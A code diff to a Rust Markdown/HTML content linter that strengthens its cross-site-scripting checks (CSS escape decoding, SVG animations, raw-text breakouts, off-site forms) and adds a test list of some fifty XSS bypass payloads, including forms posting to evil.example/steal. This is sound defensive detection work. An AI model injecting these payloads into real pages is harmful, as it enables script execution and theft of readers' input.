@@ -11,28 +11,49 @@ use crate::diag::{Code, Diagnostic};
 use crate::dialect::Expanded;
 use crate::syntax::html;
 
-/// Checks one event of the content as the parser gave it.
-#[inline]
-pub fn check_event(event: &Event, range: &Range<usize>, expanded: &Expanded, diags: &mut Vec<Diagnostic>) {
-    // Called for every event: only markup and URLs are worth a call.
-    if matches!(event, Event::Html(_) | Event::InlineHtml(_) | Event::Start(Tag::Link { .. } | Tag::Image { .. })) {
-        check_markup(event, range, expanded, diags);
-    }
+/// Checks the content's events as the parser gives them. The lines of an
+/// HTML block are read together, as the browser reads them: a raw-text
+/// element opened on one line (`<noscript>`, `<style>`) hides or ends on
+/// another.
+#[derive(Default)]
+pub struct Security {
+    /// The HTML block being read, and where each of its lines starts in it
+    /// and in the expanded Markdown.
+    block: String,
+    lines: Vec<(usize, usize)>,
 }
 
-fn check_markup(event: &Event, range: &Range<usize>, expanded: &Expanded, diags: &mut Vec<Diagnostic>) {
-    match event {
-        Event::Html(html) | Event::InlineHtml(html) => {
-            for (offset, finding) in scan_html(html) {
-                diags.push(finding.at(expanded.location(range.start + offset)));
+impl Security {
+    #[inline]
+    pub fn check(&mut self, event: &Event, range: &Range<usize>, expanded: &Expanded, diags: &mut Vec<Diagnostic>) {
+        match event {
+            Event::Html(html) => {
+                self.lines.push((self.block.len(), range.start));
+                self.block.push_str(html);
             }
-        }
-        Event::Start(Tag::Link { dest_url: url, .. } | Tag::Image { dest_url: url, .. }) => {
-            if let Some(finding) = unsafe_url(url) {
-                diags.push(finding.at(expanded.location(range.start)));
+            Event::InlineHtml(html) => {
+                for (offset, finding) in scan_html(html) {
+                    diags.push(finding.at(expanded.location(range.start + offset)));
+                }
             }
+            Event::Start(Tag::Link { dest_url: url, .. } | Tag::Image { dest_url: url, .. }) => {
+                if let Some(finding) = unsafe_url(url) {
+                    diags.push(finding.at(expanded.location(range.start)));
+                }
+            }
+            _ => {}
         }
-        _ => {}
+    }
+
+    /// The HTML block ends: its findings, at the lines they are on.
+    pub fn end_block(&mut self, expanded: &Expanded, diags: &mut Vec<Diagnostic>) {
+        for (offset, finding) in scan_html(&self.block) {
+            let line = self.lines.partition_point(|&(start, _)| start <= offset).saturating_sub(1);
+            let (start, source) = self.lines.get(line).copied().unwrap_or_default();
+            diags.push(finding.at(expanded.location(source + offset - start)));
+        }
+        self.block.clear();
+        self.lines.clear();
     }
 }
 
@@ -40,40 +61,134 @@ fn check_markup(event: &Event, range: &Range<usize>, expanded: &Expanded, diags:
 pub fn scan_html(html: &str) -> Vec<(usize, Diagnostic)> {
     let mut findings = Vec::new();
     for tag in html::start_tags(html) {
-        let name = tag.name.as_str();
-        match name {
-            "script" => findings.push((
-                tag.at,
-                Diagnostic::new(Code::SecurityScript, "`<script>` in content").with_help(
-                    "scripts belong in the theme; content is written by many hands and runs on every reader's browser",
-                ),
-            )),
-            "iframe" | "frame" | "frameset" | "object" | "embed" => findings.push((
-                tag.at,
-                Diagnostic::new(Code::SecurityIframe, format!("`<{name}>` embeds another page in content")).with_help(
-                    "allow it for the whole site with `\"security.iframe\" = \"off\"` under `[checks]` in helpgen.toml",
-                ),
-            )),
-            _ => {}
+        if let Some(finding) = element_finding(&tag, html) {
+            findings.push((tag.at, finding));
         }
         for attribute in &tag.attributes {
-            if attribute.is_event_handler() {
-                findings.push((
-                    attribute.at,
-                    Diagnostic::new(
-                        Code::SecurityEventHandler,
-                        format!("the event handler `{}` runs a script", attribute.name),
-                    )
-                    .with_help("remove it; interactive behaviour belongs in the theme's scripts"),
-                ));
-            } else if URL_ATTRIBUTES.contains(&attribute.name.as_str()) {
-                if let Some(finding) = unsafe_url(&attribute.value) {
-                    findings.push((attribute.at, finding));
-                }
+            if let Some(finding) = attribute_finding(&tag, attribute) {
+                findings.push((attribute.at, finding));
             }
         }
     }
     findings
+}
+
+/// What an element can do to the page by being there.
+fn element_finding(tag: &html::StartTag, html: &str) -> Option<Diagnostic> {
+    let name = tag.name.as_str();
+    let page = |message: String| {
+        Diagnostic::new(Code::SecurityMarkup, message)
+            .with_help("content may format text, not change what the page loads or where it sends readers")
+    };
+    match name {
+        "script" => Some(Diagnostic::new(Code::SecurityScript, "`<script>` in content").with_help(
+            "scripts belong in the theme; content is written by many hands and runs on every reader's browser",
+        )),
+        "iframe" | "frame" | "frameset" | "object" | "embed" => {
+            Some(Diagnostic::new(Code::SecurityIframe, format!("`<{name}>` embeds another page in content")).with_help(
+                "allow it for the whole site with `\"security.iframe\" = \"off\"` under `[checks]` in helpgen.toml",
+            ))
+        }
+        "base" => Some(page("`<base>` changes where every link and request of the page goes".into())),
+        "meta" if tag.attribute("http-equiv").is_some() => {
+            Some(page("`<meta http-equiv>` can redirect the page or change its security policy".into()))
+        }
+        "link" => Some(page("`<link>` loads a resource into the page".into())),
+        "form" if tag.attribute("action").is_some_and(|a| leaves_the_site(&a.value)) => {
+            Some(page("this form sends what readers type to another site".into()))
+        }
+        "style" => {
+            let content = &html[tag.end.min(html.len())..];
+            let close = content.to_ascii_lowercase().find("</style").unwrap_or(content.len());
+            unsafe_css(&content[..close]).map(|why| page(format!("this style sheet {why}")))
+        }
+        _ => None,
+    }
+}
+
+/// What an attribute can run or load.
+fn attribute_finding(tag: &html::StartTag, attribute: &html::Attribute) -> Option<Diagnostic> {
+    let name = attribute.name.as_str();
+    if attribute.is_event_handler() {
+        let d = Diagnostic::new(Code::SecurityEventHandler, format!("the event handler `{name}` runs a script"));
+        return Some(d.with_help("remove it; interactive behaviour belongs in the theme's scripts"));
+    }
+    if URL_ATTRIBUTES.contains(&name) {
+        return unsafe_url(&attribute.value);
+    }
+    // SVG animations set another attribute, such as `href`, to these values.
+    if ANIMATIONS.contains(&tag.name.as_str()) && matches!(name, "to" | "from" | "by" | "values") {
+        return attribute.value.split(';').find_map(unsafe_url);
+    }
+    if name == "style" {
+        let why = unsafe_css(&attribute.value)?;
+        let d = Diagnostic::new(Code::SecurityMarkup, format!("this style {why}"));
+        return Some(d.with_help("use the theme's classes (`{:.class}`) instead of styles that load or run things"));
+    }
+    None
+}
+
+/// SVG elements that change another attribute over time.
+const ANIMATIONS: &[&str] = &["set", "animate", "animatemotion", "animatetransform"];
+
+/// An address on another site (or of another scheme), where a form would
+/// send what readers type.
+fn leaves_the_site(url: &str) -> bool {
+    let url = url.trim();
+    url.starts_with("//") || url.contains(':')
+}
+
+/// What a piece of CSS would load or run, if anything: a script URL, an
+/// `@import`, an old `expression()` or a binding, however it is escaped.
+fn unsafe_css(css: &str) -> Option<&'static str> {
+    let plain = plain_css(css);
+    if plain.contains("@import") {
+        return Some("imports another style sheet");
+    }
+    if plain.contains("expression(") || plain.contains("-moz-binding") || plain.contains("behavior:") {
+        return Some("runs script");
+    }
+    let mut rest = plain.as_str();
+    while let Some(at) = rest.find("url(") {
+        rest = &rest[at + 4..];
+        let target = rest.trim_start_matches(['"', '\'']);
+        if ["javascript:", "vbscript:"].iter().any(|s| target.starts_with(s)) {
+            return Some("loads a script URL");
+        }
+    }
+    None
+}
+
+/// CSS as the browser reads it, for matching: comments out, escapes
+/// (`\6a`, `\:`) decoded, blanks out, lowercase.
+fn plain_css(css: &str) -> String {
+    let mut out = String::with_capacity(css.len());
+    let mut chars = css.chars().peekable();
+    while let Some(c) = chars.next() {
+        match c {
+            '/' if chars.peek() == Some(&'*') => {
+                chars.next();
+                let mut last = ' ';
+                for c in chars.by_ref() {
+                    if last == '*' && c == '/' {
+                        break;
+                    }
+                    last = c;
+                }
+            }
+            '\\' => {
+                let hex: String = std::iter::from_fn(|| chars.next_if(char::is_ascii_hexdigit)).take(6).collect();
+                let decoded = u32::from_str_radix(&hex, 16).ok().and_then(char::from_u32);
+                match (decoded, hex.is_empty()) {
+                    (Some(c), false) => out.push(c),
+                    _ => out.extend(chars.next()),
+                }
+            }
+            c if c.is_whitespace() || c.is_control() => {}
+            c => out.extend(c.to_lowercase()),
+        }
+    }
+    out
 }
 
 /// Attributes whose value a browser loads or follows as a URL.
@@ -127,6 +242,71 @@ mod tests {
         assert_eq!(codes(html), [(html.find("onerror").unwrap(), Code::SecurityEventHandler)]);
     }
 
+    /// Ways in: each must be found. Raw-text tricks, entity and CSS
+    /// escapes, SVG and MathML, page control.
+    #[test]
+    fn bypass_attempts_are_found() {
+        let attempts = [
+            "<script>alert(1)</script>",
+            "<SCRIPT SRC=//x.example/x.js></SCRIPT>",
+            "<img src=x onerror=alert(1)>",
+            "<img src=x oNeRrOr=alert(1)>",
+            "<img/src=x/ onerror=alert(1)>",
+            "<img src=\"x\" onerror  =  \"alert(1)\">",
+            "<svg onload=alert(1)>",
+            "<body onload=alert(1)>",
+            "<details open ontoggle=alert(1)>",
+            "<input type=image src=x onerror=alert(1)>",
+            "<a href=\"javascript:alert(1)\">x</a>",
+            "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
+            "<a href=\"&#106;avascript:alert(1)\">x</a>",
+            "<a href=\"&#x6A;avascript&colon;alert(1)\">x</a>",
+            "<a href=\"javascript&#58;alert(1)\">x</a>",
+            "<a href=\"java&#x09;script:alert(1)\">x</a>",
+            "<a href=\" javascript:alert(1)\">x</a>",
+            "<a href=\"vbscript:msgbox(1)\">x</a>",
+            "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
+            "<button formaction=\"javascript:alert(1)\">x</button>",
+            "<video poster=\"javascript:alert(1)\"></video>",
+            "<isindex action=\"javascript:alert(1)\">",
+            "<iframe src=\"https://evil.example\"></iframe>",
+            "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
+            "<object data=\"x.swf\"></object>",
+            "<embed src=\"x.swf\">",
+            "<form action=\"https://evil.example/steal\"><input name=p></form>",
+            "<form action=\"//evil.example/steal\"></form>",
+            "<base href=\"https://evil.example/\">",
+            "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
+            "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
+            "<style>@import url(https://evil.example/x.css);</style>",
+            "<style>@imp\\6f rt 'x.css';</style>",
+            "<style>body { background: url(javascript:alert(1)) }</style>",
+            "<div style=\"background:url(javascript:alert(1))\">x</div>",
+            "<div style=\"background:url('java\\73 cript:alert(1)')\">x</div>",
+            "<div style=\"background:url(/*x*/javascript:alert(1))\">x</div>",
+            "<div style=\"width: expression(alert(1))\">x</div>",
+            "<svg><set attributeName=\"href\" to=\"javascript:alert(1)\"/></svg>",
+            "<svg><animate attributeName=\"href\" values=\"x;javascript:alert(1)\"/></svg>",
+            "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
+            "<math><maction xlink:href=\"javascript:alert(1)\">x</maction></math>",
+            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
+            "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
+            "<style><p title=\"</style><img src=x onerror=alert(1)>\"></style>",
+            "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
+            "<noembed><p title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
+            "<title><p title=\"</title><img src=x onerror=alert(1)>\"></title>",
+        ];
+        let missed: Vec<&str> = attempts.into_iter().filter(|html| scan_html(html).is_empty()).collect();
+        assert!(missed.is_empty(), "not found: {missed:#?}");
+    }
+
+    /// What looks like a handler but is not one to a browser: here the
+    /// unquoted `src` value runs on to the `>`.
+    #[test]
+    fn reads_attributes_as_the_browser_does() {
+        assert!(scan_html("<img/src=x/onerror=alert(1)>").is_empty());
+    }
+
     #[test]
     fn leaves_ordinary_html_alone() {
         for html in [
@@ -137,6 +317,10 @@ mod tests {
             "<style>\ntable { width: 100% }\n</style>",
             "<a id=\"legacy\" name=\"online\"></a>",
             "<p data-one=\"x > y\" online>",
+            "<style>.note { background: url(/assets/img/note.png) }</style>",
+            "<div style=\"color: #c00; margin-left: 1em\">x</div>",
+            "<form action=\"/search/\"><input name=q></form>",
+            "<meta name=\"robots\" content=\"noindex\">",
         ] {
             assert!(codes(html).is_empty(), "{html}: {:?}", codes(html));
         }
